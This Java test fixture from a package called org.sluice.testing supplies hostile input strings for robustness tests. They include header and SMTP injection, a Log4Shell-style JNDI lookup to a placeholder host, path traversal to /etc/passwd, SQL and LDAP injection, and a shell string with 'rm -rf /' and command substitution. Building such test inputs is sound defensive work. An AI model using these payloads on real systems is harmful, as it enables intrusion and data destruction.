package org.sluice.testing;

import java.util.List;

/** Values that a stranger would like to see written somewhere: each tries to end, to open or to become something. */
public final class Hostile {

    private Hostile() {}

    /** All of them. */
    public static List<String> values() {
        return List.of(
                "a\r\nX-Injected: yes\r\n\r\nbody",
                "a\nX-Injected: yes",
                "a\rX-Injected: yes",
                "a\u0000b",
                "\"quoted\" 'single' `back`",
                "back\\slash\\\" }",
                "a) (b; c=d, <e@f>",
                "*%s%n%1$s%",
                "{\"a\": 1}\n{\"event\":\"forged\"}",
                "${jndi:ldap://x.example/a} ${env:HOME} #{1+1}",
                "\u001b[31mred\u001b]0;title\u0007\u009b2J",
                "../../../etc/passwd",
                "..",
                "/absolute/path",
                "\u202egnp.exe \u2028line \u2029paragraph \u0085next",
                "\ud83d lone \ude00",
                "x".repeat(10_240),
                "\r\n.\r\nMAIL FROM:<evil@example.org>",
                "=?utf-8?q?a=0D=0AX-Injected:_yes?=",
                "' OR 1=1 --",
                "*)(uid=*",
                "; rm -rf / &&`id`$(id)|x");
    }

    /** Those a client can send within a command line: no line end, and octets for characters. */
    public static List<String> words() {
        return values().stream()
                .map(value -> value.replaceAll("[\r\n\u0000]", "_"))
                .map(value -> value.replaceAll("[^\u0001-\u007e]", "?"))
                .map(value -> value.length() > 400 ? value.substring(0, 400) : value)
                .toList();
    }
}
